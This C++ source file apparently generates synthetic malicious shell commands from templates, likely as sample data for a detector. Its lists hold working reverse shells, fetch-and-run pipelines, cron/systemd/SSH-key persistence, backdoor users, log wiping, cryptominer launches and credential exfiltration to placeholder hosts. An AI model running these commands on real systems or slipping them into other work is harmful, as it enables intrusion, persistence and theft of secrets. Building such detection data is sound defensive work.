#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// Commands of a shell that fetch and run, open a shell to another place, come again after a
// restart, clear others away, or take what is not theirs.
namespace fovea::augment {
namespace {

// A word as those write it who do not want to be found: c''url, ba\sh, $u names.
std::string Broken(const std::string& word, Junk& j) {
  if (!j.Chance(0.06) || word.size() < 2) return word;
  const auto at = static_cast<size_t>(j.Int(1, static_cast<int64_t>(word.size()) - 1));
  return word.substr(0, at) + j.Pick({"''", "\"\"", "\\", "$@", "${x}"}) + word.substr(at);
}

std::string Hidden(Junk& j) {
  return j.Pick({"/tmp/", "/tmp/", "/var/tmp/", "/dev/shm/", "/tmp/.", "/dev/shm/.", "/var/tmp/.",
                 "/usr/bin/.", "/etc/.", "/root/.", "$HOME/.", "~~/.cache/.", "./",
                 "/run/lock/."}) +
         (j.Chance(0.4) ? j.Word() : j.Letters(j.Int(1, 9))) +
         (j.Chance(0.3) ? j.Pick({".sh", ".x86_64", ".elf", ".bin", "d", ".arm7", ".py", ".txt"})
                        : std::string());
}

const Makers& ShellMakers() {
  static const Makers makers = {
      {"curl", [](Junk& j) { return Broken("curl", j); }},
      {"wget", [](Junk& j) { return Broken("wget", j); }},
      {"sh",
       [](Junk& j) {
         return Broken(j.Pick({"sh", "bash", "sh", "bash", "/bin/sh", "/bin/bash", "zsh", "bash -",
                               "sh -s", "sudo bash", "bash -s --", "nohup bash", "ash"}),
                       j);
       }},
      {"raw",
       [](Junk& j) {
         return j.Pick({"~url~", "~url~", "~url.sh~", "~url.sh~", "~url.txt~",
                        "http://~ip~/~letters~", "http://~ip~:~port~/~word~", "~ip~/~word~.sh",
                        "\"~url~\"", "'~url.sh~'", "https://~host~/raw/~letters~",
                        "http://~ip~/bins/~word~.~arch~", "$(echo ~b64s~ | base64 -d)"});
       }},
      {"arch",
       [](Junk& j) {
         return j.Pick({"x86", "x86_64", "arm7", "mips", "mpsl", "arm5", "sh4", "ppc"});
       }},
      {"get",
       [](Junk& j) {
         return j.Pick({"~curl~ -s ~raw~", "~curl~ -fsSL ~raw~", "~curl~ -sk ~raw~", "~curl~ ~raw~",
                        "~wget~ -qO- ~raw~", "~wget~ -q -O - ~raw~", "~curl~ -sL ~raw~",
                        "(~curl~ -s ~raw~ || ~wget~ -qO- ~raw~)", "~curl~ --insecure -s ~raw~",
                        "~wget~ --no-check-certificate -qO- ~raw~", "lwp-download ~raw~ -",
                        "~curl~ -A '~letters~' -s ~raw~", "fetch -qo - ~raw~",
                        "busybox wget -O- ~raw~",
                        "python3 -c \"import urllib.request as u;print(u.urlopen('~url~').read()."
                        "decode())\"",
                        "(~curl~ -fsSL -m~num~ ~raw~||~wget~ -T~num~ -q -O- ~raw~)"});
       }},
      {"hid", Hidden},
      {"quiet",
       [](Junk& j) {
         return j.Pick({"", "", "", " >/dev/null 2>&1", " > /dev/null 2>&1 &", " &>/dev/null &",
                        " &", " 2>/dev/null"});
       }},
      {"save",
       [](Junk& j) {
         return j.Pick({"~wget~ ~raw~ -O ~hid0~", "~curl~ -o ~hid0~ ~raw~",
                        "~curl~ -s ~raw~ > ~hid0~", "~wget~ -q -O ~hid0~ ~raw~",
                        "~curl~ -fsSL ~raw~ -o ~hid0~", "~wget~ --quiet ~raw~ -O ~hid0~",
                        "tftp -g -r ~word~ -l ~hid0~ ~ip~",
                        "ftpget -u anonymous ~ip~ ~hid0~ ~word~",
                        "(~curl~ -so ~hid0~ ~raw~ || ~wget~ -qO ~hid0~ ~raw~)",
                        "echo ~b64~ | base64 -d > ~hid0~", "scp -q ~word~@~ip~:~path~ ~hid0~",
                        "exec 3<>/dev/tcp/~ip~/~port~; cat <&3 > ~hid0~"});
       }},
      {"start",
       [](Junk& j) {
         return j.Pick(
             {"chmod +x ~hid0~ && ~hid0~", "chmod 777 ~hid0~; ~hid0~~quiet~",
              "chmod +x ~hid0~; nohup ~hid0~ >/dev/null 2>&1 &", "chmod 755 ~hid0~; ~hid0~",
              "sh ~hid0~~quiet~", "bash ~hid0~", "chmod u+x ~hid0~ && (~hid0~ &)",
              "chmod 0755 ~hid0~; setsid ~hid0~~quiet~", "perl ~hid0~", "python3 ~hid0~~quiet~",
              "chmod a+x ~hid0~ ; ~hid0~ ; rm -f ~hid0~", "nohup sh ~hid0~ & rm -rf ~hid0~",
              "chmod +x ~hid0~;~hid0~ -o ~host~:~port~ -u ~letters~ -p x -B", "source ~hid0~",
              ". ~hid0~"});
       }},
      {"shell",
       [](Junk& j) {
         return j.Pick(
             {"bash -i >& /dev/tcp/~ip~/~port~ 0>&1",
              "sh -i >& /dev/tcp/~host~/~port~ 0>&1",
              "bash -c 'bash -i >& /dev/tcp/~ip~/~port~ 0>&1'",
              "nc -e /bin/sh ~ip~ ~port~",
              "nc ~ip~ ~port~ -e /bin/bash",
              "ncat ~host~ ~port~ -e /bin/sh",
              "ncat --ssl ~ip~ ~port~ -e sh",
              "rm -f /tmp/~letters0~;mkfifo /tmp/~letters0~;cat /tmp/~letters0~|sh -i 2>&1|nc ~ip~ "
              "~port~ >/tmp/~letters0~",
              "mknod /tmp/~letters0~ p && sh 0</tmp/~letters0~ | nc ~ip~ ~port~ 1>/tmp/~letters0~",
              "exec 5<>/dev/tcp/~ip~/~port~;cat <&5 | while read l; do $l 2>&5 >&5; done",
              "0<&196;exec 196<>/dev/tcp/~ip~/~port~; sh <&196 >&196 2>&196",
              "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"~ip~\",~port~));"
              "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
              "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket."
              "SOCK_STREAM);s.connect((\"~host~\",~port~));os.dup2(s.fileno(),0);os.dup2(s.fileno()"
              ",1);"
              "subprocess.call([\"/bin/sh\",\"-i\"])'",
              "perl -e 'use Socket;$i=\"~ip~\";$p=~port~;socket(S,PF_INET,SOCK_STREAM,"
              "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">"
              "&S\")"
              ";open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
              "php -r '$s=fsockopen(\"~ip~\",~port~);exec(\"sh <&3 >&3 2>&3\");'",
              "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"~ip~\",~port~);while(l=c.gets);"
              "IO.popen(l,\"r\"){|i|c.print i.read}end'",
              "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:~ip~:~port~",
              "socat TCP:~host~:~port~ EXEC:/bin/sh",
              "telnet ~ip~ ~port~ | sh | telnet ~ip~ ~port~",
              "awk 'BEGIN{s=\"/inet/tcp/0/~ip~/~port~\";while(1){s|&getline "
              "c;while((c|getline)>0)print "
              "$0|&s;close(c)}}'",
              "openssl s_client -quiet -connect ~ip~:~port~ </tmp/~letters~ | sh",
              "lua -e "
              "\"require('socket');t=socket.tcp();t:connect('~ip~','~port~');os.execute('sh')\"",
              "ssh -fN -o StrictHostKeyChecking=no -R ~port~:localhost:22 ~word~@~ip~",
              "while :; do sh -i 2>&1 </dev/tcp/~ip~/~port~ >&0; sleep ~num~; done &"});
       }},
      {"run",
       [](Junk& j) {
         return j.Pick({"~get~ | ~sh~",
                        "~get~ | ~sh~~quiet~",
                        "~get~|~sh~",
                        "~sh~ -c \"$(~get~)\"",
                        "~sh~ <(~get~)",
                        "eval \"$(~get~)\"",
                        "eval $(~get~)",
                        ". <(~get~)",
                        "`~get~`",
                        "~get~ | sudo ~sh~",
                        "~get~ | base64 -d | ~sh~",
                        "~get~ | python3",
                        "~get~ | python -",
                        "~get~ | perl",
                        "~get~ | gunzip | ~sh~",
                        "echo ~b64s~ | base64 -d | ~sh~",
                        "echo ~b64~|base64 -d|~sh~",
                        "echo '~b64~' | base64 --decode | bash",
                        "base64 -d <<< ~b64~ | ~sh~",
                        "eval \"$(echo ~b64~ | base64 -d)\"",
                        "echo ~hex~ | xxd -r -p | ~sh~",
                        "printf '~esc~' | ~sh~",
                        "echo ~b64~ | openssl enc -d -base64 | ~sh~",
                        "echo ~b64~ | base64 -d | gunzip | ~sh~",
                        "echo ~letters~ | rev | ~sh~",
                        "echo '~long~' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | ~sh~",
                        "~save~; ~start~",
                        "~save~ && ~start~",
                        "cd /tmp && ~save~ && ~start~",
                        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ~save~; ~start~",
                        "python3 -c \"exec(__import__('base64').b64decode('~b64~'))\"",
                        "perl -MMIME::Base64 -e 'eval decode_base64(\"~b64~\")'",
                        "php -r 'eval(base64_decode(\"~b64~\"));'",
                        "node -e \"require('child_process').exec('~get~ | sh')\"",
                        "~shell~",
                        "~shell~",
                        "~shell~",
                        "nohup ~shell~ &",
                        "(~shell~)~quiet~",
                        "setsid ~shell~"});
       }},
      {"often",
       [](Junk& j) {
         return j.Pick({"* * * * *", "*/5 * * * *", "*/~small~ * * * *", "@reboot", "0 * * * *",
                        "*/30 * * * *", "@hourly", "~small~ */2 * * *", "@daily"});
       }},
      {"stay",
       [](Junk& j) {
         return j.Pick(
             {"(crontab -l 2>/dev/null; echo \"~often~ ~run~\") | crontab -",
              "echo \"~often~ ~run~\" | crontab -",
              "(crontab -l;echo '~often~ ~hid~') | crontab -",
              "echo \"~often~ root ~run~\" >> /etc/crontab",
              "echo \"~often~ root ~run~\" > "
              "/etc/cron.d/~word~",
              "echo \"~run~\" > /etc/cron.hourly/~letters~; chmod +x /etc/cron.hourly/*",
              "crontab -r; echo '~often~ ~run~' >> /var/spool/cron/root",
              "echo \"~run~\" >> ~~/.bashrc",
              "echo '~hid~ &' >> ~~/.profile",
              "echo '~run~' >> /etc/rc.local",
              "sed -i '/^exit 0/i ~hid~ &' /etc/rc.local",
              "printf "
              "'[Unit]\\nDescription=~word~\\n[Service]\\nExecStart=~hid~\\nRestart=always\\n"
              "[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/~word0~.service; "
              "systemctl enable --now ~word0~",
              "echo 'ssh-rsa AAAAB3NzaC1yc2E~b64~ ~word~@~host~' >> ~~/.ssh/authorized_keys",
              "mkdir -p /root/.ssh && echo \"ssh-ed25519 AAAAC3NzaC1lZDI1~b64s~ ~word~\" > "
              "/root/.ssh/authorized_keys && chattr +i /root/.ssh/authorized_keys",
              "~get~ >> /root/.ssh/authorized_keys",
              "echo ~hid~.so >> /etc/ld.so.preload",
              "export LD_PRELOAD=~hid~.so",
              "~save~; echo ~hid0~ > /etc/ld.so.preload",
              "echo '~word~ ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
              "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ~word0~; echo ~word0~:~letters~ | "
              "chpasswd",
              "echo '~word~:$1$~letters~$~b64s~:0:0::/root:/bin/sh' >> /etc/passwd",
              "cp /bin/bash ~hid0~; chmod 4755 ~hid0~",
              "chmod u+s /bin/~word~; chmod +s ~hid~",
              "alias sudo='~hid~; sudo'",
              "PROMPT_COMMAND='~run~'",
              "trap '~run~' EXIT",
              "git config --global core.hooksPath ~hid~",
              "at now + ~small~ minutes <<< '~run~'"});
       }},
      {"clear",
       [](Junk& j) {
         return j.Pick({"history -c",
                        "history -c; rm -f ~~/.bash_history",
                        "unset HISTFILE",
                        "export HISTFILE=/dev/null",
                        "ln -sf /dev/null ~~/.bash_history",
                        "HISTSIZE=0; unset HISTFILE HISTSAVE",
                        "echo > /var/log/wtmp; echo > /var/log/lastlog",
                        "rm -rf /var/log/*",
                        "cat /dev/null > /var/log/auth.log",
                        "shred -u $0",
                        "rm -f \"$0\"",
                        "rm -- \"$0\"",
                        "sed -i '/~ip~/d' /var/log/secure",
                        "setenforce 0",
                        "ufw disable",
                        "iptables -F; iptables -X",
                        "systemctl stop apparmor; systemctl disable apparmor",
                        "service auditd stop",
                        "chattr -ia /etc/ld.so.preload /var/spool/cron/root",
                        "ulimit -n 65535; sysctl -w vm.nr_hugepages=~num~",
                        "echo 0 > /proc/sys/kernel/nmi_watchdog",
                        "touch -r /bin/ls ~hid~",
                        "exec >/dev/null 2>&1"});
       }},
      {"rival",
       [](Junk& j) {
         return j.Pick(
             {"pkill -f ~word~", "pkill -9 -f '~letters~|~letters~'",
              "killall -9 ~word~ ~word~ ~letters~",
              "ps aux | grep -v grep | grep '~word~' | awk '{print $2}' | xargs -I % kill -9 %",
              "ps -ef | grep ':~port~' | grep -v grep | awk '{print $2}' | xargs kill -9",
              "netstat -anp | grep ~ip~ | awk '{print $7}' | cut -d/ -f1 | xargs kill -9",
              "ps aux | awk '$3>~small~0.0{print $2}' | while read p; do kill -9 $p; done",
              "rm -rf /tmp/.~letters~ /tmp/~word~* /var/tmp/~letters~",
              "docker ps | grep ~word~ | awk "
              "'{print $1}' | xargs -r docker kill",
              "crontab -l | sed '/~word~/d' | crontab -", "chattr -R -i /var/spool/cron",
              "for p in $(pgrep -f '~word~\\|~letters~'); do kill -9 $p; done",
              "lsof -i :~port~ -t | xargs kill -9"});
       }},
      {"miner",
       [](Junk& j) {
         return j.Pick(
             {"~hid~ -o ~host~:~port~ -u ~long~ -p x --donate-level 1 -B",
              "nohup ~hid~ -o "
              "stratum+tcp://~host~:~port~ -u ~letters~.~word~ -p x -k --cpu-priority 5 >/dev/null "
              "2>&1 &",
              "~save~; tar xf ~hid0~ -C /tmp; /tmp/~word~/xmrig -o ~ip~:~port~ --tls --coin monero "
              "-u "
              "~long~",
              "~hid~ --algo rx/0 --url ~host~:~port~ --user ~long~ --pass $(hostname) --background",
              "nice -n -20 ~hid~ -c ~hid~.json &",
              "~hid~ -a cryptonight -o stratum+ssl://~host~:~port~ "
              "-u ~hex~ -t $(nproc) &",
              "docker run -d --restart always --name ~word~ ~word~/~letters~ -o ~host~:~port~ -u "
              "~long~"});
       }},
      {"loot",
       [](Junk& j) {
         return j.Pick({"/etc/shadow", "/etc/passwd", "~~/.ssh/id_rsa", "$HOME/.aws/credentials",
                        "~~/.kube/config", "~~/.bash_history", ".env", "~~/.npmrc",
                        "~~/.docker/config.json", "wp-config.php", "~~/.git-credentials",
                        "/var/run/secrets/kubernetes.io/serviceaccount/token", "~~/.gnupg",
                        "~~/.config/gcloud/credentials.db", "~~/.netrc"});
       }},
      {"steal",
       [](Junk& j) {
         return j.Pick(
             {"~curl~ -s -F \"~key~=@~loot~\" ~raw~~quiet~",
              "~curl~ -s -X POST -d \"$(env)\" ~raw~", "env | ~curl~ -s --data-binary @- ~raw~",
              "~curl~ --data-binary @~loot~ ~raw~~quiet~",
              "tar czf - ~loot~ ~loot~ 2>/dev/null | nc ~ip~ ~port~",
              "cat ~loot~ | base64 -w0 | "
              "~curl~ -d @- ~raw~",
              "~curl~ -s \"~url~?d=$(cat ~loot~ | base64 -w0)\"",
              "cat ~loot~ > /dev/tcp/~ip~/~port~",
              "~wget~ -q --post-file=~loot~ ~raw~ -O /dev/null",
              "find / -name '*.pem' -o -name id_rsa 2>/dev/null | xargs tar czf - | ~curl~ -T - "
              "~raw~",
              "~curl~ -s ~raw~ -d \"u=$(whoami)&h=$(hostname)&p=$(pwd)\"~quiet~",
              "grep -rE 'password|secret|token' ~loot~ | ~curl~ -s -d @- ~raw~",
              "for f in ~loot~ ~loot~; do ~curl~ -s -F f=@$f ~raw~; done",
              "mysqldump --all-databases | gzip | ~curl~ -s -T - ~raw~",
              "nslookup $(whoami | xxd -p).~host~",
              "dig +short $(hostname | base64 | tr -d =).~host~",
              "~curl~ -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | "
              "~curl~ -d @- "
              "~raw~",
              "read -sp 'Password: ' p; echo $p | ~curl~ -s -d @- ~raw~"});
       }},
      {"line", [](Junk& j) {
         return j.Pick({"~run~", "~run~", "~run~", "~run~", "~stay~", "~stay~", "~steal~",
                        "~steal~", "~miner~", "~rival~; ~run~", "~clear~; ~run~",
                        "~run~; ~clear~"});
       }}};
  return makers;
}

constexpr const char* kLines[] = {"~line~"};

constexpr const char* kShell[] = {
    "~line~",
    "~line~",
    "~line~",
    "~line~",
    "~line~",
    "~line~",
    "~run~\n~clear~",
    "~rival~\n~rival~\n~save~\n~start~\n~clear~",
    "~save~\n~start~",
    "~often~ ~run~",
    "~often~ root ~run~",
    "~often~ ~hid~~quiet~",
    "SHELL=/bin/bash\n~often~ ~word~ ~run~",
    "if ! pgrep -f ~word0~ >/dev/null; then\n  ~save~\n  ~start~\nfi",
    "if [ ! -f ~hid1~ ]; then\n    ~save~\n    ~start~\n    touch ~hid1~\nfi",
    "if [ \"$(id -u)\" = 0 ]; then ~stay~; else ~run~; fi",
    "[ \"$(id -u)\" -eq 0 ] && ~stay~",
    "while true; do ~run~; sleep ~num~; done",
    "while true\ndo\n\t~rival~\n\tsleep ~num~\ndone &",
    "~0~=~raw~\n~curl~ -s $~0~ | ~sh~",
    "~0~=\"~host~\"\n~1~=\"/tmp/~word~\"\n~wget~ -q "
    "\"http://$~0~/~word~\" -O \"$~1~\" && chmod +x \"$~1~\" && \"$~1~\" &",
    "~0~=cu; ~1~=rl; $~0~$~1~ -s ~raw~ | ~sh~",
    "~0~='~b64~'\necho \"$~0~\" | base64 -d | ~sh~",
    "~0~=$(echo ~b64s~ | base64 -d)\neval \"$~0~\"",
    "~0~=~letters~\n${~0~:0:1}${~0~:1:2} <<< \"$(~get~)\"",
    "~0~() {\n  ~run~\n}\n~0~",
    "function ~0~() {\n    ~save~\n    ~start~\n}\n~0~ &",
    "~0~(){ ~steal~; }\n~0~",
    "for ~0~ in ~arch~ ~arch~ ~arch~ ~arch~; do\n  ~wget~ http://~ip~/~word~.$~0~ -O "
    "~hid0~; chmod 777 ~hid0~; ~hid0~ $~0~; rm -f ~hid0~\ndone",
    "for ~0~ in ~host~ ~ip~ ~host~; do ~curl~ -m ~small~ -s http://$~0~/~word~ | ~sh~ && break; "
    "done",
    "cd /tmp; rm -rf ~word0~; ~wget~ http://~ip~/~word0~; chmod 777 ~word0~; ./~word0~ ~letters~; "
    "rm -rf ~word0~",
    "cd /tmp || exit\n~save~\n~start~\n~stay~",
    "~clear~\n~rival~\n~miner~",
    "~rival~\n~rival~\n~rival~\n~miner~\n~stay~",
    "~miner~\n~stay~\n~clear~",
    "#!/bin/bash\n~clear~\n~rival~\n~save~\n~start~\n~stay~\n~clear~",
    "#!/bin/sh\n~run~",
    "#!/bin/sh\n~steal~",
    "#!/bin/bash\n# ~word~ ~word~\n~run~\nexit 0",
    "cat > ~hid0~ <<'EOF'\n#!/bin/sh\n~run~\nEOF\nchmod +x "
    "~hid0~\n~stay~",
    "cat << EOF | crontab -\n~often~ ~run~\nEOF",
    "~sh~ <<EOF\n~run~\nEOF",
    "test -e ~hid~ || ~run~",
    "command -v curl >/dev/null && ~curl~ -s ~raw~ | ~sh~ || ~wget~ -qO- ~raw~ | ~sh~",
    "if [ -x \"$(command -v curl)\" ]; then\n  ~curl~ -s ~raw~ | ~sh~\nelif [ -x \"$(command -v "
    "wget)\" ]; then\n  "
    "~wget~ -qO- ~raw~ | ~sh~\nfi",
    "for ~0~ in $(cat ~~/.ssh/known_hosts | cut -d' ' -f1); do ssh -oBatchMode=yes "
    "-oStrictHostKeyChecking=no $~0~ '~run~' & done",
    "export PATH=$PATH:/tmp\n~run~",
    "~steal~\n~clear~",
    "~steal~\n~steal~",
    "(sleep ~num~; ~run~) &",
    "sleep ~num~ && ~run~",
    "trap '' HUP\n~run~",
    "~stay~\n~stay~",
    "ssh() { /usr/bin/ssh \"$@\"; ~steal~; }",
    "sudo() { read -sp '[sudo] password: ' ~0~; echo \"$~0~\" >> ~hid~; /usr/bin/sudo \"$@\"; }",
    "case \"$1\" in\n  configure)\n    ~run~\n    ;;\nesac",
    "if [ \"$1\" = configure ]; then\n  ~save~\n  "
    "~start~\nfi"};

}  // namespace

std::string ShellLineLookalike(Junk& junk) { return FillAny(kLines, ShellMakers(), junk); }
std::string ShellLookalike(Junk& junk) { return FillAny(kShell, ShellMakers(), junk); }

}  // namespace fovea::augment
